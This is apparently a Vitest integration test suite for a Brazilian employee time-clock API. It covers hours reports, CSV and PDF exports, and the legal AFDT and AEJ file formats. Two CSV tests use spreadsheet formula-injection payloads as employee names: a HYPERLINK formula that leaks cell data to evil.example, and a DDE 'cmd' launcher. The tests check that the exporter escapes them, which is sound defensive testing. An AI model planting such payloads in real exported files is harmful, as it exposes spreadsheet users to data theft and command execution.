import { createHash } from 'node:crypto';
import net from 'node:net';
import { DateTime } from 'luxon';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { parseAej } from '../../src/legal/aej.js';
import { parseAfd } from '../../src/legal/afd.js';
import { parseAfdt } from '../../src/legal/afdt.js';
import { seedMonth } from '../support/seed-month.js';
import { nextCpf } from '../support/fixtures.js';
import { expectGolden } from '../support/golden.js';
import { pdfPages, pdfText, withoutSpaces } from '../support/pdf-text.js';
import { afd, prepareReport } from '../../src/modules/reports/reports.service.js';
import { requireLegalIdentity } from '../../src/modules/rep/legal-identity.js';
import { newId } from '../../src/platform/ids.js';
import { createTestApp, problem, SEEDED_REP_NUMBER, type TestApp } from '../support/harness.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ PONTUAL_RATE_LIMIT_PER_MINUTE: '100000' });
});
afterAll(() => t.close());

const OFFICE = [
  { start: '08:00', end: '12:00' },
  { start: '13:00', end: '17:00' },
];

/**
 * The known week (São Paulo, UTC−3), Monday 2026-11-16 to Friday 2026-11-20, office hours 08–12, 13–17:
 * Mon on schedule; Tue exit forgotten and added by an approved adjustment; Wed a duplicate mark disregarded and
 * a 3-minute variation (tolerated); Thu two hours of overtime; Fri 12 minutes late (not tolerated).
 * A second employee works the night from Monday 22:00 to Tuesday 05:00.
 */
async function knownWeek(options: { name?: string; at?: (local: string) => void } = {}) {
  const at = options.at ?? (() => {});
  const tenant = await t.seedTenant({ ...(options.name ? { name: options.name } : {}) });
  const { key } = await tenant.key();
  at('2026-11-16T07:00');
  const post = async (url: string, payload?: object) => {
    const response = await t.request({ method: 'POST', url, key, payload });
    expect(response.statusCode, `${url} ${response.body}`).toBeLessThan(300);
    return response.json();
  };
  const office = await post('/v1/employees', {
    name: 'Ana Conceição',
    cpf: '52998224725',
    pis: '12058258837',
    jobTitle: 'Analista',
    admissionDate: '2024-03-01',
    schedule: { mon: OFFICE, tue: OFFICE, wed: OFFICE, thu: OFFICE, fri: OFFICE },
  });
  const night = await post('/v1/employees', {
    name: 'Bruno Noite',
    cpf: '02973937078',
    schedule: { mon: [{ start: '22:00', end: '05:00' }] },
  });
  const mark = (employeeId: string, local: string, deviceId?: string) => {
    at(local);
    return post('/v1/time-entries', {
      employeeId,
      occurredAt: `${local}:00-03:00`,
      ...(deviceId ? { deviceId } : {}),
    });
  };
  const days: Record<string, string[]> = {
    '2026-11-16': ['08:00', '12:00', '13:00', '17:00'],
    '2026-11-17': ['08:00', '12:00', '13:00'],
    '2026-11-18': ['08:00', '08:01', '12:00', '13:03', '17:00'],
    '2026-11-19': ['08:00', '12:00', '13:00', '19:00'],
    '2026-11-20': ['08:12', '12:00', '13:00', '17:00'],
  };
  // Clocked in the order they happened, as a REP would record them.
  const marks: { employeeId: string; local: string; deviceId?: string }[] = [
    ...Object.entries(days).flatMap(([date, times]) =>
      times.map((time) => ({ employeeId: office.id, local: `${date}T${time}`, deviceId: '4003650006783' })),
    ),
    { employeeId: night.id, local: '2026-11-16T22:00' },
    { employeeId: night.id, local: '2026-11-17T05:00' },
  ].sort((a, b) => a.local.localeCompare(b.local));
  const entries: Record<string, { id: string }> = {};
  for (const m of marks) entries[m.local] = await mark(m.employeeId, m.local, m.deviceId);
  at('2026-11-20T18:00');
  const add = await post('/v1/adjustments', {
    type: 'add',
    employeeId: office.id,
    occurredAt: '2026-11-17T17:00:00-03:00',
    reason: 'Esqueceu de registrar a saída',
  });
  await post(`/v1/adjustments/${add.id}/approve`);
  const disregard = await post('/v1/adjustments', {
    type: 'disregard',
    employeeId: office.id,
    timeEntryId: entries['2026-11-18T08:01']!.id,
    reason: 'Marcação duplicada',
  });
  await post(`/v1/adjustments/${disregard.id}/approve`);
  return { tenant, key, office, night };
}

const get = (key: string, url: string) => t.request({ method: 'GET', url, key });

/**
 * The cells of an RFC 4180 CSV (quoted fields may hold the separator, quotes and line breaks); a line ends
 * with LF or CR LF.
 */
function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char !== '"') cell += char;
      else if (text[i + 1] === '"') cell += text[++i];
      else quoted = false;
    } else if (char === '"') quoted = true;
    else if (char === separator) {
      row.push(cell);
      cell = '';
    } else if (char === '\n' || (char === '\r' && text[i + 1] === '\n')) {
      if (char === '\r') i++;
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += char;
  }
  return rows;
}

describe('GET /v1/reports/period', () => {
  it('200 gives the exact minutes of the known week', async () => {
    const { key, office, night } = await knownWeek();
    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-20');
    expect(response.statusCode).toBe(200);
    const report = response.json();
    expect(report).toMatchObject({
      from: '2026-11-16',
      to: '2026-11-20',
      employer: { document: '12345678000195' },
    });
    const [first, second] = report.employees;
    expect(first.employee).toMatchObject({
      id: office.id,
      cpf: '52998224725',
      admissionDate: '2024-03-01',
      jobTitle: 'Analista',
    });
    const summary = first.days.map((d: Record<string, unknown>) => [
      d.date,
      d.workedMinutes,
      d.overtimeMinutes,
      d.lateMinutes,
      d.breakMinutes,
      d.flags,
    ]);
    expect(summary).toEqual([
      ['2026-11-16', 480, 0, 0, 60, []],
      ['2026-11-17', 480, 0, 0, 60, []],
      ['2026-11-18', 477, 0, 0, 63, []],
      ['2026-11-19', 600, 120, 0, 60, ['tolerance_exceeded']],
      // Consciência Negra, a national holiday since 2024: nothing owed, so no lateness; the 468 minutes
      // worked (08:12–12:00, 13:00–17:00) are counted apart, and are overtime at 100%.
      ['2026-11-20', 468, 468, 0, 60, []],
    ]);
    expect(first.days[4]).toMatchObject({
      status: 'holiday',
      holiday: { id: null, name: 'Dia Nacional de Zumbi e da Consciência Negra', scope: 'national' },
      scheduledMinutes: 0,
      holidayWorkedMinutes: 468,
      overtime50Minutes: 0,
      overtime100Minutes: 468,
    });
    expect(first.days[0]).toMatchObject({ status: 'workday', holiday: null, holidayWorkedMinutes: 0 });
    expect(first.days[1].marks.map((m: { kind: string; source: string }) => m.kind + m.source)).toEqual([
      'EO',
      'SO',
      'EO',
      'SI',
    ]);
    expect(first.days[1].marks[3].reason).toBe('Esqueceu de registrar a saída');
    expect(first.days[2].marks.map((m: { kind: string }) => m.kind)).toEqual(['E', 'D', 'S', 'E', 'S']);
    expect(first.totals).toMatchObject({
      scheduledMinutes: 1920,
      workedMinutes: 2505,
      overtimeMinutes: 588,
      overtime50Minutes: 120,
      overtime100Minutes: 468,
      lateMinutes: 0,
      holidayWorkedMinutes: 468,
    });

    expect(second.employee.id).toBe(night.id);
    expect(second.days[0]).toMatchObject({
      date: '2026-11-16',
      workedMinutes: 480,
      nightMinutes: 480,
      scheduledMinutes: 480,
    });
    expect(second.days[1]).toMatchObject({ date: '2026-11-17', workedMinutes: 0, marks: [] });
  });

  it('200 for more employees than are read together: each gets exactly their own marks and adjustments', async () => {
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const post = async (url: string, payload?: object) => {
      const response = await t.request({ method: 'POST', url, key, payload });
      expect(response.statusCode, `${url} ${response.body}`).toBeLessThan(300);
      return response.json();
    };
    const zones = ['America/Sao_Paulo', 'America/Manaus', 'America/Noronha'];
    const expected = new Map<string, string[]>();
    const cpfs = new Map<string, string>();
    for (let i = 0; i < 30; i++) {
      const timezone = zones[i % zones.length]!;
      const employee = await post('/v1/employees', { name: `Employee ${i}`, cpf: nextCpf(), timezone });
      cpfs.set(employee.cpf, employee.id);
      const local = (time: string) => DateTime.fromISO(`2026-10-05T${time}`, { zone: timezone }).toISO();
      await post('/v1/time-entries', {
        employeeId: employee.id,
        occurredAt: local(`08:${String(i).padStart(2, '0')}`),
      });
      const exit = await post('/v1/time-entries', { employeeId: employee.id, occurredAt: local('12:00') });
      const kinds = ['EO', 'SO'];
      if (i % 2 === 0) {
        const add = await post('/v1/adjustments', {
          type: 'add',
          employeeId: employee.id,
          occurredAt: local('13:00'),
          reason: 'Esqueceu de registrar',
        });
        await post(`/v1/adjustments/${add.id}/approve`);
        kinds.push('EI');
      }
      if (i % 3 === 0) {
        const disregard = await post('/v1/adjustments', {
          type: 'disregard',
          employeeId: employee.id,
          timeEntryId: exit.id,
          reason: 'Marcação duplicada',
        });
        await post(`/v1/adjustments/${disregard.id}/approve`);
        kinds.splice(1, 1, 'DO');
        if (i % 2 === 0) kinds.splice(2, 1, 'SI');
      }
      expected.set(employee.id, kinds);
    }

    const report = (await get(key, '/v1/reports/period?from=2026-10-05&to=2026-10-05')).json();
    const ids = report.employees.map((entry: { employee: { id: string } }) => entry.employee.id);
    expect(ids).toEqual([...expected.keys()].sort());
    for (const entry of report.employees) {
      const kinds = entry.days[0].marks.map((m: { kind: string; source: string }) => m.kind + m.source);
      expect(kinds, entry.employee.name).toEqual(expected.get(entry.employee.id));
      // The same employee alone (a batch of one) reads the same.
      const alone = await get(
        key,
        `/v1/reports/period?from=2026-10-05&to=2026-10-05&employeeId=${entry.employee.id}`,
      );
      expect(alone.json().employees).toEqual([entry]);
    }

    // The AEJ reads its employees in batches of its own: each employment's marks are its employee's.
    const aej = parseAej(
      (await get(key, '/v1/reports/aej?from=2026-10-05&to=2026-10-05')).rawPayload.toString('latin1'),
    );
    const employments = aej.filter((r) => r[0] === '03');
    expect(employments).toHaveLength(30);
    for (const [, employmentId, cpf] of employments) {
      const marks = aej.filter((r) => r[0] === '05' && r[1] === employmentId);
      expect(
        marks.map((r) => r[4]! + r[6]!),
        cpf,
      ).toEqual(expected.get(cpfs.get(cpf!)!));
    }
  });

  it('200 CSV: a header, one row per employee-day and a TOTAL row', async () => {
    const { key, office } = await knownWeek();
    const response = await get(
      key,
      `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=csv`,
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = response.body.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'employee_id,employee_name,cpf,date,weekday,scheduled,marks,scheduled_minutes,worked_minutes,night_minutes,overtime_minutes,late_minutes,absence_minutes,break_minutes,flags,holiday_worked_minutes,status,holiday,absence_id,absence_type,overtime50_minutes,overtime100_minutes,suppressed_break_minutes,rest_shortfall_minutes',
    );
    expect(lines).toHaveLength(7);
    expect(lines[2]).toBe(
      `${office.id},Ana Conceição,52998224725,2026-11-17,tue,08:00-12:00 13:00-17:00,08:00E 12:00S 13:00E 17:00SI,480,480,0,0,0,0,60,,0,workday,,,,0,0,0,0`,
    );
    expect(lines[5]).toBe(
      `${office.id},Ana Conceição,52998224725,2026-11-20,fri,,08:12E 12:00S 13:00E 17:00S,0,468,0,468,0,0,60,,468,holiday,Dia Nacional de Zumbi e da Consciência Negra,,,0,468,0,0`,
    );
    expect(lines[6]).toBe(
      `${office.id},Ana Conceição,52998224725,TOTAL,,,,1920,2505,0,588,0,0,303,,468,,,,,120,468,0,0`,
    );
  });

  it('CSV: a text cell a spreadsheet would evaluate starts with a quote; numbers stay numbers', async () => {
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const names = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Clique")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,1)',
      // Names are trimmed on the way in, so a leading tab or line break cannot reach the file (test/unit/csv).
      ' \t=1+1',
    ];
    for (const name of names) await t.hire(key, { name, schedule: { mon: OFFICE } });
    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-17&format=csv');
    expect(response.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(response.body);
    expect(header![0]).toBe('employee_id');
    expect(rows).toHaveLength(names.length * 3);
    expect(new Set(rows.map((row) => row[1]))).toEqual(new Set(names.map((name) => `'${name.trim()}`)));
    for (const cell of rows.flat()) {
      // Only a number may start with a sign: the minutes columns, written as numbers.
      if (/^[=+\-@\t\r\n]/.test(cell)) expect(cell).toMatch(/^-\d+$/);
    }
    const total = rows.find((row) => row[3] === 'TOTAL')!;
    expect(total.slice(7, 14)).toEqual(['480', '0', '0', '0', '0', '480', '0']);
  });

  it('200 CSV for a spreadsheet (csv-br): byte-order mark, `;`, CR LF, Portuguese headers, dd/mm/aaaa, hh:mm', async () => {
    const { key, office } = await knownWeek();
    const response = await get(
      key,
      `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=csv-br`,
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = response.rawPayload.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    // Every line break is a CR LF (none of these cells holds a line break of its own).
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const lines = text.split('\r\n').slice(0, -1);
    expect(lines[0]).toBe(
      'Empregado;Matrícula;CPF;Data;Dia;Situação;Horário previsto;Marcações;Incluídas;Desconsideradas;Previsto;Trabalhado;Noturno;Horas extras;HE 50%;HE 100%;Trabalhado em feriado ou descanso;Atraso;Falta;Intervalo;Intervalo suprimido;Interjornada;Ocorrências',
    );
    expect(lines).toHaveLength(7);
    expect(lines[2]).toBe(
      'Ana Conceição;;529.982.247-25;17/11/2026;ter;dia útil;08:00–12:00 13:00–17:00;08:00 12:00 13:00 17:00;17:00;;08:00;08:00;00:00;00:00;00:00;00:00;00:00;00:00;00:00;01:00;00:00;00:00;',
    );
    expect(lines[3]).toBe(
      'Ana Conceição;;529.982.247-25;18/11/2026;qua;dia útil;08:00–12:00 13:00–17:00;08:00 12:00 13:03 17:00;;08:01;08:00;07:57;00:00;00:00;00:00;00:00;00:00;00:00;00:00;01:03;00:00;00:00;',
    );
    expect(lines[5]).toBe(
      'Ana Conceição;;529.982.247-25;20/11/2026;sex;feriado: Dia Nacional de Zumbi e da Consciência Negra;;08:12 12:00 13:00 17:00;;;00:00;07:48;00:00;07:48;00:00;07:48;07:48;00:00;00:00;01:00;00:00;00:00;',
    );
    // The totals, more than 24 hours written as they are.
    expect(lines[6]).toBe(
      'Ana Conceição;;529.982.247-25;Total;;;;;;;32:00;41:45;00:00;09:48;02:00;07:48;07:48;00:00;00:00;05:03;00:00;00:00;',
    );
    // The integration CSV of the same days is as it was: minutes as integers, codes in English, no mark.
    const csv = await get(
      key,
      `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=csv`,
    );
    expect(csv.rawPayload[0]).toBe('e'.charCodeAt(0));
    expect(csv.body.split('\n')[6]).toBe(
      `${office.id},Ana Conceição,52998224725,TOTAL,,,,1920,2505,0,588,0,0,303,,468,,,,,120,468,0,0`,
    );
  });

  it('csv-br: a cell with `;`, `"` or a line break is quoted; a cell a spreadsheet would evaluate starts with a quote', async () => {
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const names = [
      'Silva; Ana "Aninha"',
      '=HYPERLINK("https://evil.example/?d="&A1;"Clique")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1;1)',
    ];
    for (const name of names) await t.hire(key, { name, schedule: { mon: OFFICE } });
    await t.hire(key, { name: 'Quebra', registration: 'linha 1\nlinha 2', schedule: { mon: OFFICE } });
    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-17&format=csv-br');
    expect(response.statusCode).toBe(200);
    const text = response.rawPayload.subarray(3).toString('utf8');
    expect(text).toContain('\r\n"Silva; Ana ""Aninha""";;');
    expect(text).toContain('\r\nQuebra;"linha 1\nlinha 2";');
    const [header, ...rows] = parseCsv(text, ';');
    expect(header![0]).toBe('Empregado');
    expect(rows).toHaveLength((names.length + 1) * 3);
    expect(new Set(rows.map((row) => row[0]))).toEqual(
      new Set(['Silva; Ana "Aninha"', ...names.slice(1).map((name) => `'${name}`), 'Quebra']),
    );
    expect(rows.find((row) => row[0] === 'Quebra')![1]).toBe('linha 1\nlinha 2');
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    const total = rows.find((row) => row[0] === "'-2+3" && row[3] === 'Total')!;
    expect(total.slice(10, 12)).toEqual(['08:00', '00:00']);
    expect(total[22]).toBe('faltas: 1');
  });

  it('files are named after the employee and the period (ASCII, and as written in `filename*`), or the employer', async () => {
    const { key, office } = await knownWeek({ name: 'Padaria Pão & Cia' });
    for (const format of ['csv', 'csv-br', 'pdf']) {
      const extension = format === 'pdf' ? 'pdf' : 'csv';
      const one = await get(
        key,
        `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=${format}`,
      );
      expect(one.headers['content-disposition'], format).toBe(
        `attachment; filename="espelho-ana-conceicao-2026-11-16-a-2026-11-20.${extension}"; ` +
          `filename*=UTF-8''espelho-Ana%20Concei%C3%A7%C3%A3o-2026-11-16-a-2026-11-20.${extension}`,
      );
      const all = await get(key, `/v1/reports/period?from=2026-11-16&to=2026-11-20&format=${format}`);
      expect(all.headers['content-disposition'], format).toBe(
        `attachment; filename="espelho-padaria-pao-cia-2026-11-16-a-2026-11-20.${extension}"; ` +
          `filename*=UTF-8''espelho-Padaria%20P%C3%A3o%20%26%20Cia-2026-11-16-a-2026-11-20.${extension}`,
      );
    }
  });

  it('400 for a reversed range, a range over 366 days and bad dates; 404 for another tenant’s employee', async () => {
    const { key, office } = await knownWeek();
    for (const query of [
      'from=2026-11-20&to=2026-11-16',
      'from=2025-01-01&to=2026-06-01',
      'from=2026-02-30&to=2026-03-01',
      'from=x&to=y',
    ]) {
      const response = await get(key, `/v1/reports/period?${query}`);
      expect(response.statusCode, query).toBe(400);
      expect(problem(response).code).toBe('invalid_request');
    }
    const stranger = await (await t.seedTenant()).key();
    const foreign = await get(
      stranger.key,
      `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}`,
    );
    expect(foreign.statusCode).toBe(404);
    const empty = (await get(stranger.key, '/v1/reports/period?from=2026-11-16&to=2026-11-20')).json();
    expect(empty.employees).toEqual([]);
  });
});

describe('GET /v1/reports/period?flag=', () => {
  it('200 lists only the flagged days and the employees that have one; totals stay the whole period’s', async () => {
    const { key, office, night } = await knownWeek();
    const week = 'from=2026-11-16&to=2026-11-20';
    const whole = (await get(key, `/v1/reports/period?${week}`)).json();

    const tolerance = await get(key, `/v1/reports/period?${week}&flag=tolerance_exceeded`);
    expect(tolerance.statusCode).toBe(200);
    const [only, ...others] = tolerance.json().employees;
    expect(others).toEqual([]);
    expect(only.employee.id).toBe(office.id);
    expect(only.days.map((day: { date: string }) => day.date)).toEqual(['2026-11-19']);
    expect(only.days[0]).toEqual(whole.employees[0].days[3]);
    expect(only.totals).toEqual(whole.employees[0].totals);

    expect((await get(key, `/v1/reports/period?${week}&flag=incomplete`)).json().employees).toEqual([]);
    // The night worker clocks in on Wednesday and never out: that day, and only it, is incomplete.
    const mark = await t.request({
      method: 'POST',
      url: '/v1/time-entries',
      key,
      payload: { employeeId: night.id, occurredAt: '2026-11-18T22:00:00-03:00' },
    });
    expect(mark.statusCode).toBe(201);
    const incomplete = (await get(key, `/v1/reports/period?${week}&flag=incomplete`)).json().employees;
    expect(incomplete.map((e: { employee: { id: string } }) => e.employee.id)).toEqual([night.id]);
    expect(incomplete[0].days.map((day: { date: string; flags: string[] }) => [day.date, day.flags])).toEqual(
      [['2026-11-18', ['incomplete']]],
    );
  });

  it('400 for an unknown flag, and for a flag with the CSV or the PDF', async () => {
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const week = 'from=2026-11-16&to=2026-11-20';
    for (const query of ['flag=late', 'flag=incomplete&format=csv', 'flag=incomplete&format=pdf']) {
      const response = await get(key, `/v1/reports/period?${week}&${query}`);
      expect(response.statusCode, query).toBe(400);
      expect(problem(response).errors?.[0]?.field, query).toBe('flag');
    }
  });
});

describe('GET /v1/reports/afdt', () => {
  it('200 writes the exact AFDT layout in ISO-8859-1 with CR LF', async () => {
    const { key } = await knownWeek();
    const response = await get(key, '/v1/reports/afdt?from=2026-11-16&to=2026-11-20');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/plain; charset=ISO-8859-1');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="AFDT_12345678000195_2026-11-16_2026-11-20.txt"',
    );
    const text = response.rawPayload.toString('latin1');
    expect(response.rawPayload.includes(Buffer.from('Conceição', 'utf8'))).toBe(false);
    const records = parseAfdt(text);
    expect(records[0]).toMatchObject({
      type: '1',
      length: 215,
      sequence: '000000001',
      documentType: '1',
      document: '12345678000195',
      cei: '000000000000',
      firstDate: '16112026',
      lastDate: '20112026',
    });
    const details = records.slice(1, -1) as unknown as Record<string, string | number>[];
    expect(details.every((d) => d.type === '2' && d.length === 155)).toBe(true);
    expect(details.map((d) => d.sequence)).toEqual(details.map((_, i) => String(i + 2).padStart(9, '0')));
    // Office worker: 4 + 4 (one included) + 5 (one disregarded) + 4 + 4 marks; night worker: 2.
    expect(details).toHaveLength(23);
    const tuesdayExit = details.find((d) => d.date === '17112026' && d.time === '1700')!;
    expect(tuesdayExit).toMatchObject({
      workerId: '012058258837',
      rep: SEEDED_REP_NUMBER,
      kind: 'S',
      pair: '02',
      source: 'I',
      reason: 'Esqueceu de registrar a saída',
    });
    const duplicate = details.find((d) => d.date === '18112026' && d.time === '0801')!;
    expect(duplicate).toMatchObject({
      kind: 'D',
      pair: '00',
      source: 'O',
      reason: 'Marcação duplicada',
      // Posted without `rep`: a mark of the REP-P (its collector's id in deviceId), as in the AFD and the AEJ.
      rep: SEEDED_REP_NUMBER,
    });
    const nightMarks = details.filter((d) => d.workerId === '002973937078');
    expect(nightMarks.map((d) => [d.date, d.time, d.kind, d.pair])).toEqual([
      ['16112026', '2200', 'E', '01'],
      ['17112026', '0500', 'S', '01'],
    ]);
    expect(records[records.length - 1]).toEqual({
      type: '9',
      length: 10,
      sequence: String(details.length + 2).padStart(9, '0'),
    });
  });

  it('409 when the company has no CNPJ/CPF; 403 without reports:read', async () => {
    const undocumented = await t.seedTenant({ document: null });
    const { key } = await undocumented.key();
    const refused = await get(key, '/v1/reports/afdt?from=2026-11-16&to=2026-11-20');
    expect(refused.statusCode).toBe(409);
    expect(problem(refused).detail).toContain('CNPJ or CPF');
    const { tenant } = await knownWeek();
    const { key: noScope } = await tenant.key({ scopes: ['employees:read'] });
    expect((await get(noScope, '/v1/reports/afdt?from=2026-11-16&to=2026-11-20')).statusCode).toBe(403);
  });

  it("another tenant's or environment's marks never appear", async () => {
    const { tenant } = await knownWeek();
    const { key: testKey } = await tenant.key({ environment: 'test' });
    const records = parseAfdt(
      (await get(testKey, '/v1/reports/afdt?from=2026-11-16&to=2026-11-20')).rawPayload.toString('latin1'),
    );
    expect(records.map((r) => r.type)).toEqual(['1', '9']);
    const stranger = await (await t.seedTenant()).key();
    const theirs = parseAfdt(
      (await get(stranger.key, '/v1/reports/afdt?from=2026-11-16&to=2026-11-20')).rawPayload.toString(
        'latin1',
      ),
    );
    expect(theirs).toHaveLength(2);
  });
});

describe('GET /v1/reports/aej', () => {
  it('200 writes the AEJ records of the known week, pipe-separated, ISO-8859-1, CR LF, signature marker last', async () => {
    const { key, office, night } = await knownWeek();
    const response = await get(key, '/v1/reports/aej?from=2026-11-16&to=2026-11-20');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/plain; charset=ISO-8859-1');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="AEJ_12345678000195_2026-11-16_2026-11-20.txt"',
    );
    const records = parseAej(response.rawPayload.toString('latin1'));
    const types = records.map((r) => r[0]);
    expect(types.filter((t) => t !== '05')).toEqual(['01', '02', '03', '03', '04', '04', '04', '08', '99']);
    const [header] = records;
    expect(header!.slice(0, 8)).toEqual([
      '01',
      '1',
      '12345678000195',
      '',
      '',
      header![5],
      '2026-11-16',
      '2026-11-20',
    ]);
    expect(header![8]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:00[+-]\d{4}$/);
    expect(header![9]).toBe('001');
    // Every original mark was taken by the REP-P (none was posted as a clock's, `rep: rep_c`).
    expect(records.filter((r) => r[0] === '02')).toEqual([['02', '1', '3', SEEDED_REP_NUMBER]]);
    expect(records.filter((r) => r[0] === '03')).toEqual([
      ['03', '1', office.cpf, 'Ana Conceição'],
      ['03', '2', night.cpf, 'Bruno Noite'],
    ]);
    expect(records.filter((r) => r[0] === '04')).toEqual([
      ['04', 'H1', '480', '0800', '1200', '1300', '1700'],
      ['04', 'H2', '480', '2200', '0500'],
      // Both schedules have days without work: their first entries need a code too.
      ['04', 'FOLGA', '0', '0000', '0000'],
    ]);
    const marks = records.filter((r) => r[0] === '05');
    expect(marks).toHaveLength(23);
    expect(marks[0]).toEqual(['05', '1', '2026-11-16T08:00:00-0300', '1', 'E', '1', 'O', 'H1', '']);
    expect(marks.find((r) => r[2] === '2026-11-17T17:00:00-0300')).toEqual([
      '05',
      '1',
      '2026-11-17T17:00:00-0300',
      '',
      'S',
      '2',
      'I',
      '',
      'Esqueceu de registrar a saída',
    ]);
    expect(marks.find((r) => r[2] === '2026-11-18T08:01:00-0300')).toEqual([
      '05',
      '1',
      '2026-11-18T08:01:00-0300',
      '1',
      'D',
      '0',
      'O',
      '',
      'Marcação duplicada',
    ]);
    expect(marks.filter((r) => r[1] === '2')).toEqual([
      ['05', '2', '2026-11-16T22:00:00-0300', '1', 'E', '1', 'O', 'H2', ''],
      ['05', '2', '2026-11-17T05:00:00-0300', '1', 'S', '1', 'O', '', ''],
    ]);
    expect(records.find((r) => r[0] === '08')).toEqual([
      '08',
      'Pontual',
      expect.stringMatching(/^\d+\.\d+\.\d+$/),
      '1',
      '93487056000101',
      'Pontual Tecnologia Ltda',
      'legal@pontual.example',
    ]);
    expect(records[records.length - 1]).toEqual(['99', '1', '1', '2', '3', '23', '0', '0', '1']);
  });
});

describe('GET /v1/reports/period?format=pdf', () => {
  it('200 is a PDF with one espelho per employee', async () => {
    const { key } = await knownWeek();
    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-20&format=pdf');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    const pdf = response.rawPayload;
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(pdf.subarray(-6).toString()).toContain('%%EOF');
    // Two employees, each from a new page.
    expect(pdf.toString('latin1').match(/\/Type \/Page\b/g)).toHaveLength(2);
  });

  it('the marks in E1 S1 E2 S2 columns, the declaration, place and date, and both signature lines', async () => {
    const { key } = await knownWeek();
    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-20&format=pdf');
    const [office, night] = await pdfPages(response.rawPayload);
    for (const page of [office!, night!]) {
      expect(page).toContain('Data E1 S1 E2 S2 Trab.');
      expect(withoutSpaces(page)).toContain(
        withoutSpaces(
          'Reconheço a exatidão das marcações e das horas registradas neste espelho de ponto, referente ao período de 16/11/2026 a 20/11/2026.',
        ),
      );
      expect(page).toContain('Local e data:');
      expect(page).toContain('Assinatura do empregado');
      expect(page).toContain('Assinatura do empregador');
      expect(page).toContain('Página 1 de 1');
    }
    // Each time under its column; the included exit starred, the disregarded mark among the occurrences.
    expect(office).toContain('16/11 seg 08:00 12:00 13:00 17:00 8:00');
    expect(office).toContain('17/11 ter 08:00 12:00 13:00 17:00* 8:00');
    expect(office).toContain('18/11 qua 08:00 12:00 13:03 17:00 7:57');
    expect(office).toContain('desconsiderada: 08:01');
    expect(office).toMatch(/Ana Conceição CPF 529\.982\.247-25 Assinatura do empregado/);
    expect(night).toContain('16/11 seg 22:00 05:00');
  });

  it('a day with more than two pairs continues under E1 S1; a long espelho numbers each of its pages', async () => {
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const id = await t.hire(key, {
      name: 'Júlia Longa',
      admissionDate: '2026-01-01',
      schedule: { mon: OFFICE },
    });
    for (const time of ['08:00', '10:00', '10:15', '12:00', '13:00', '17:00']) {
      const mark = await t.request({
        method: 'POST',
        url: '/v1/time-entries',
        key,
        payload: { employeeId: id, occurredAt: `2026-11-16T${time}:00-03:00` },
      });
      expect(mark.statusCode).toBe(201);
    }
    const response = await get(
      key,
      `/v1/reports/period?from=2026-08-01&to=2026-11-30&employeeId=${id}&format=pdf`,
    );
    expect(response.statusCode).toBe(200);
    const pages = await pdfPages(response.rawPayload);
    expect(pages.length).toBeGreaterThanOrEqual(3);
    pages.forEach((page, i) => {
      expect(page).toContain(`Página ${i + 1} de ${pages.length}`);
      expect(page).toContain('Espelho de ponto — Júlia Longa — 01/08/2026 a 30/11/2026');
      // Every page repeats the column titles.
      expect(page).toContain('Data E1 S1 E2 S2');
    });
    // The third pair on the line below the first: 13:00 under 08:00 in E1, 17:00 under 10:00 in S1.
    expect(pages.join(' ')).toContain('16/11 seg 08:00 13:00 10:00 17:00 10:15 12:00');
    expect(withoutSpaces(pages.at(-1)!)).toContain(withoutSpaces('Reconheço a exatidão das marcações'));
  });
});

describe('the espelho PDF header', () => {
  it('"Horário contratual" shows each schedule version in force in the period, with the days it covers', async () => {
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const id = await t.hire(key, {
      admissionDate: '2026-10-01',
      schedule: { mon: OFFICE, tue: OFFICE, wed: OFFICE, thu: OFFICE, fri: OFFICE },
    });
    // From Wednesday 18 November 2026, a 12x36 cycle starting that day: the office week governs Monday 16 and
    // Tuesday 17, the cycle Wednesday 18 to Sunday 22.
    const cycle = { type: 'cycle', startsOn: '2026-11-18', days: [[{ start: '07:00', end: '19:00' }], []] };
    const added = await t.request({
      method: 'POST',
      url: `/v1/employees/${id}/schedules`,
      key,
      payload: { effectiveFrom: '2026-11-18', schedule: cycle },
